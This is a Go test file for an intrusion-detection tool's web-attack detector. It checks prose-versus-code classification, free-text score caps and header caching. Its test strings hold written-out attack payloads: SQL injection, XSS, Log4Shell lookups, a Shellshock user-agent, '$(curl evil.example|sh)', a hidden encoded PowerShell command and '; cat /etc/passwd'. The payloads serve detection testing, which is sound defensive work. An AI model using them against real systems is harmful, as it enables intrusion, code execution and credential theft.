package webattack

import (
	"bytes"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/rampart-ids/rampart/internal/accesslog"
)

// TestProse checks what reads as prose: text quoting a little code, and
// not code with a word or two around it.
func TestProse(t *testing.T) {
	prose := []string{
		"<script> defer async",
		"<script> tag defer vs async",
		"<script src= language:html",
		"docker run -v $(pwd):/app",
		"how to use UNION SELECT in mysql",
		"${jndi:ldap} log4j vulnerability",
		"phpinfo() not showing",
		"javascript:void(0) link meaning",
		"/etc/hosts file location mac",
		"169.254.169.254 what is this ip",
		"don't stop believing",
		"what does <br> do in html?",
		"sleep(5) in a shell loop",
	}
	code := []string{
		"1' UNION SELECT password FROM users--",
		"1' UNION SELECT password FROM users WHERE 'a",
		"' or 1=1 -- great shoes",
		"<script>alert(document.cookie)</script>",
		"<script>alert(1)</script> nice shoes today",
		"<img src=x onerror=alert(1)> hello there",
		"<svg/onload=alert(1)> cheap flights",
		"${jndi:ldap://198.51.100.7:1389/a} log4j test",
		"$(curl evil.example|sh)",
		"; cat /etc/passwd",
		"x|powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
		"example.org\nperl -e 'print \"vuln\"'",
		"http://169.254.169.254/latest/meta-data/ what is this",
		"3 < 5 and 5 > 3",
		"<!--#exec cmd=\"id\"--> test page",
		"word " + strings.Repeat("a ", 300),
	}
	for _, s := range prose {
		if !Prose([]byte(s)) {
			t.Errorf("Prose(%q) = false, want true", s)
		}
	}
	for _, s := range code {
		if Prose([]byte(s)) {
			t.Errorf("Prose(%q) = true, want false", s)
		}
	}
}

// TestFreeTextCap checks the scores of whole requests: code quoted in a
// search box is a finding, not a ban; the same text in a parameter that
// is not free text, or an attack in the search box, still bans.
func TestFreeTextCap(t *testing.T) {
	rs := builtin(t)
	d := rs.NewDetector(accesslog.Auto)
	var res Result
	tests := []struct {
		target    string
		report    bool // a finding (score >= ReportScore)
		singleHit bool
		prose     bool // the top match is Prose
	}{
		// quoted code in free-text parameters: a finding that counts
		{"/search?q=%3Cscript%3E+defer+async", true, false, true},
		{"/search.php?keywords=docker+run+-v+%24%28pwd%29%3A%2Fapp&terms=all", true, false, true},
		{"/w/index.php?search=%3Cscript%3E+defer+async&title=Special%3ASearch", true, false, true},
		{"/search?q=how+to+use+UNION+SELECT+in+mysql", true, false, true},
		{"/search?Q=%24%7Bjndi%3Aldap%7D%20log4j%20vulnerability", true, false, true},
		{"/?s=phpinfo%28%29+not+showing", true, false, true},
		// code that is not prose but runs nothing (no alert(, no quote
		// break-out, no ${…}: FreeText.Active): quoted, a finding
		{"/search?q=%3Csvg+onload%3E", true, false, true},
		{"/search?query=%3Cstyle+type%3D%22text%2Fcss%22%3E", true, false, true},
		{"/search?q=java.io.FileInputStream", true, false, true},
		// a field's quoted phrase, a lookup left open, a tag without
		// attributes, code in a Markdown fence: quoted
		{"/search?q=message%3A%22union%20select%22", true, false, true},
		{"/issues?search=%24%7Bjndi%3Aldap&in=title", true, false, true},
		{"/loki/api?query=%7Bapp%3D%22api%22%7D%20%7C~%20%22(%3Fi)%3Cscript%22", true, false, true},
		{"/preview?text=%60%60%60php%0A%3C%3Fphp%20echo%20htmlspecialchars(%24name)%3B%20%3F%3E%0A%60%60%60", true, false, true},
		// attacks in the same parameters still ban
		{"/search?q=x%22+union+select+password+from+users--", true, true, false},
		{"/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", true, true, false},
		{"/preview?text=%60%60%60x%60%60%60%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", true, true, false},
		{"/search?q=%3Cvideo+onplay%3Dprompt(9)%3E", true, true, false},
		{"/search?q=%3Cstyle%3E@import'//198.51.100.7/x.css'%3C/style%3E", true, true, false},
		{"/search?q=1%27+UNION+SELECT+password+FROM+users--", true, true, false},
		{"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", true, true, false},
		{"/search?q=1'+UNION+SELECT+password+FROM+users+WHERE+'a", true, true, false},
		{"/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D+log4j+test", true, true, false},
		{"/search?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E+hello+there", true, true, false},
		{"/search?q=x%7Cpowershell+-nop+-w+hidden+-enc+SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", true, true, false},
		// prose that needed an evasion to decode is not a person typing
		{"/search?q=%253Cscript%253E+defer+async", true, true, false},
		{"/search?q=%26lt;script%26gt;+defer+async", true, true, false},
		{"/search?q=%u003cscript%u003e+defer+async", true, true, false},
		// the same prose in a parameter that is not free text bans
		{"/page?id=%3Cscript%3E+defer+async", true, true, false},
		{"/run?cmd=docker+run+-v+%24%28pwd%29%3A%2Fapp", true, true, false},
		// a free-text parameter does not shield the others: a prose
		// search beside an injection elsewhere still bans
		{"/search?q=%3Cscript%3E+defer+async&id=1%27+UNION+SELECT+password+FROM+users--", true, true, false},
	}
	for _, tt := range tests {
		d.ScanRequest(sampleRequest(tt.target), &res)
		top := res.Top()
		if rep := res.Score >= ReportScore; rep != tt.report || res.SingleHit != tt.singleHit || (top != nil && top.Prose != tt.prose) {
			t.Errorf("%s: score %d single-hit %v top prose %v (matches %s), want report %v single-hit %v prose %v",
				tt.target, res.Score, res.SingleHit, top != nil && top.Prose, matchIDs(&res), tt.report, tt.singleHit, tt.prose)
		}
	}
	// Several rules on one prose value count once: the cap is on the
	// value's matches together, so they cannot add up to a ban.
	d.exhaustive = true
	d.ScanRequest(sampleRequest("/search?q=%3Cscript%3E+tag+defer+vs+async+script+src"), &res)
	if len(res.Matches) < 2 || res.Score > Medium.Points() || res.SingleHit {
		t.Errorf("two rules in one prose value: score %d, matches %s; want >= 2 matches, score <= %d", res.Score, matchIDs(&res), Medium.Points())
	}
	for _, m := range res.Matches {
		if !m.Prose || m.Severity != Medium || string(m.Param) != "q" {
			t.Errorf("match %s: prose %v severity %v param %q, want prose, medium, q", m.Rule.ID, m.Prose, m.Severity, m.Param)
		}
	}
	if res.Severity != Medium {
		t.Errorf("result severity %v, want medium (the cap)", res.Severity)
	}
}

// TestFreeTextOff: WithFreeText(FreeText{}) scores every match in full.
func TestFreeTextOff(t *testing.T) {
	rules, err := BuiltinRules()
	if err != nil {
		t.Fatal(err)
	}
	rs, err := Compile(rules, WithFreeText(FreeText{}))
	if err != nil {
		t.Fatal(err)
	}
	d := rs.NewDetector(accesslog.Auto)
	var res Result
	d.ScanRequest(sampleRequest("/search?q=%3Cscript%3E+defer+async"), &res)
	if !res.SingleHit {
		t.Errorf("cap off: score %d, want single-hit", res.Score)
	}
}

// TestFreeTextQueryField: a match in the query field (name=value lines)
// or the raw query is attributed to its parameter too.
func TestFreeTextQueryField(t *testing.T) {
	rs := builtin(t)
	d := rs.NewDetector(accesslog.Auto)
	var res Result
	d.ScanRequest(sampleRequest("/a?page=2&q=%24%7Bjndi%3Aldap%7D+log4j+vulnerability&lang=en"), &res)
	for i, name := range []string{"page", "q", "lang"} {
		if got := string(d.paramName(i)); got != name {
			t.Errorf("paramName(%d) = %q, want %q", i, got, name)
		}
	}
	q := d.val[FieldQuery]
	at := bytes.Index(q, []byte("${jndi"))
	if i := d.paramAt(FieldQuery, at, at+6); i != 1 {
		t.Errorf("paramAt(query, ${jndi) = %d, want 1", i)
	}
	if i := d.paramAt(FieldQuery, bytes.Index(q, []byte("q=")), at); i != -1 {
		t.Errorf("paramAt(query, across the name) = %d, want -1", i)
	}
	raw := d.val[FieldRawQuery]
	at = bytes.Index(raw, []byte("log4j"))
	if i := d.paramAt(FieldRawQuery, at, at+5); i != 1 {
		t.Errorf("paramAt(rawquery, log4j) = %d, want 1", i)
	}
	at = bytes.Index(raw, []byte("2&q"))
	if i := d.paramAt(FieldRawQuery, at, at+3); i != -1 {
		t.Errorf("paramAt(rawquery, across parameters) = %d, want -1", i)
	}
}

func TestFreeTextFile(t *testing.T) {
	ft, err := BuiltinFreeText()
	if err != nil {
		t.Fatal(err)
	}
	if ft.MaxSeverity != Medium || !ft.has([]byte("Q")) || !ft.has([]byte("search")) || ft.has([]byte("id")) || ft.has([]byte("url")) {
		t.Errorf("built-in free text: %+v", ft)
	}
	for name, want := range map[string]bool{"filter[q]": true, "search[text]": true, "_q": true, "$filter": true, "jql": true,
		"q[email_cont]": false, "_id": false, "[]": false, "_": false, "q[]": false, "__q": false} {
		if got := ft.has([]byte(name)); got != want {
			t.Errorf("free text has(%q) = %v, want %v", name, got, want)
		}
	}
	tests := []struct{ name, file, want string }{
		{"no params", "[free_text]\nmax_severity = \"medium\"", "params: missing"},
		{"upper", "[free_text]\nparams = [\"Q\"]\nmax_severity = \"medium\"", `params: "Q" must be`},
		{"high", "[free_text]\nparams = [\"q\"]\nmax_severity = \"high\"", `max_severity: "high" is not low or medium`},
		{"unknown key", "[free_text]\nparams = [\"q\"]\nmax_severity = \"low\"\nnames = [\"x\"]", `unknown key "free_text.names"`},
		{"bad active", "[free_text]\nparams = [\"q\"]\nmax_severity = \"low\"\nactive = 'alert\\s*('", "[free_text]: active: error parsing regexp: missing closing )"},
	}
	for _, tt := range tests {
		_, err := ParseRules("t.toml", []byte(tt.file))
		if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.HasPrefix(err.Error(), "t.toml: ") {
			t.Errorf("%s: error %v, want one starting with t.toml: and containing %q", tt.name, err, tt.want)
		}
	}
	fsys := fstest.MapFS{
		"r/a.toml": {Data: []byte("[free_text]\nparams = [\"q\"]\nmax_severity = \"low\"")},
		"r/b.toml": {Data: []byte("[free_text]\nparams = [\"s\"]\nmax_severity = \"low\"")},
	}
	if _, err := LoadFreeText(fsys, "r"); err == nil || !strings.Contains(err.Error(), "b.toml: [free_text]: already given in a.toml") {
		t.Errorf("LoadFreeText(two tables) error %v", err)
	}
	delete(fsys, "r/b.toml")
	ft, err = LoadFreeText(fsys, "r")
	if err != nil || ft.MaxSeverity != Low || len(ft.Params) != 1 {
		t.Errorf("LoadFreeText = %+v, %v", ft, err)
	}
	if rules, err := LoadRules(fsys, "r"); err != nil || len(rules) != 0 {
		t.Errorf("LoadRules of a free_text-only file = %d rules, %v; want none, no error", len(rules), err)
	}
}

// FuzzProse checks Prose against its own definition's hard limits.
func FuzzProse(f *testing.F) {
	for _, s := range []string{"<script> defer async", "1' UNION SELECT password FROM users--", "docker run -v $(pwd):/app", "a'b 'c", "::///"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, v []byte) {
		if !Prose(v) {
			return
		}
		syntax := 0
		for i, c := range v {
			if isSyntax(c) && (c != '\'' || i == 0 || i+1 == len(v) || !isAlpha(v[i-1]) || !isAlpha(v[i+1])) {
				syntax++
			}
		}
		if syntax > proseMaxSyntax || len(v) > proseMaxLen || bytes.Contains(v, []byte("--")) || bytes.Contains(v, []byte("://")) ||
			bytes.Contains(v, []byte("/*")) || bytes.Contains(v, []byte("*/")) {
			t.Fatalf("Prose(%q) = true: %d syntax characters, or a comment marker or ://", v, syntax)
		}
	})
}

// TestHeaderCacheSameResult: the user-agent and referer caches remember
// what the patterns found, so a value seen again gives the same matches,
// fragments and score as on a fresh detector.
func TestHeaderCacheSameResult(t *testing.T) {
	rs := builtin(t)
	lines := []string{
		`192.0.2.1 - - [03/Dec/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "sqlmap/1.8.3#stable (https://sqlmap.org)"`,
		`192.0.2.2 - - [03/Dec/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "https://example.com/?q=<script>alert(1)</script>" "Mozilla/5.0 (X11; Linux x86_64)"`,
		`192.0.2.3 - - [03/Dec/2026:10:00:00 +0000] "GET /x?id=1 HTTP/1.1" 200 1 "-" "() { :; }; /bin/bash -c 'id'"`,
		`192.0.2.4 - - [03/Dec/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://198.51.100.7/a}"`,
		`192.0.2.5 - - [03/Dec/2026:10:00:00 +0000] "GET /search?q=script+font HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; Nmap Scripting Engine)"`,
	}
	shared := rs.NewDetector(accesslog.Auto)
	shared.exhaustive = true
	var got, want Result
	for round := 0; round < 3; round++ {
		for _, l := range lines {
			shared.Scan([]byte(l), &got)
			fresh := rs.NewDetector(accesslog.Auto)
			fresh.exhaustive = true
			fresh.Scan([]byte(l), &want)
			if g, w := matchIDs(&got), matchIDs(&want); g != w || got.Score != want.Score {
				t.Errorf("round %d, %s: cached %s score %d, fresh %s score %d", round, l, g, got.Score, w, want.Score)
			}
		}
	}
}

// TestFreeTextAlways: a site's own text parameters (a jail's
// web_text_params) cap every match in them, prose or not; other
// parameters, and values that needed an evasion to decode, still ban.
func TestFreeTextAlways(t *testing.T) {
	rules, err := BuiltinRules()
	if err != nil {
		t.Fatal(err)
	}
	ft, err := BuiltinFreeText()
	if err != nil {
		t.Fatal(err)
	}
	plain, err := Compile(rules)
	if err != nil {
		t.Fatal(err)
	}
	ft.Always = []string{"_a", "se_la"}
	site, err := Compile(rules, WithFreeText(ft))
	if err != nil {
		t.Fatal(err)
	}
	kibana := "/app/discover?_a=(query:(language:kuery,query:'message%3A%22SELECT%20*%20FROM%20orders%22%20and%20not%20service.name%3Abilling'))"
	for _, tt := range []struct {
		target            string
		plainBan, siteBan bool
	}{
		{kibana, true, false},
		{"/i?e=se&se_la=a%5Bhref%5E%3D%22%2Fdocs%2F%22%5D%20%3E%20span", true, false},
		// the nested form of the same name
		{"/app/discover?state[_a]=(query:'x%22%20union%20select%20password%20from%20users--')", true, false},
		// an injection beside the text parameter
		{kibana + "&id=1%27%20UNION%20SELECT%20password%20FROM%20users--", true, true},
		// double-encoded: no browser sent it
		{"/app/discover?_a=%2527%2520union%2520select%2520password%2520from%2520users--", true, true},
	} {
		for _, c := range []struct {
			rs   *Ruleset
			want bool
			name string
		}{{plain, tt.plainBan, "built-in"}, {site, tt.siteBan, "with web_text_params"}} {
			var res Result
			c.rs.NewDetector(accesslog.Auto).ScanRequest(sampleRequest(tt.target), &res)
			if res.SingleHit != c.want || res.Score == 0 {
				t.Errorf("%s: %s: single-hit %v (score %d), want single-hit %v and a finding", c.name, tt.target, res.SingleHit, res.Score, c.want)
			}
		}
	}
}
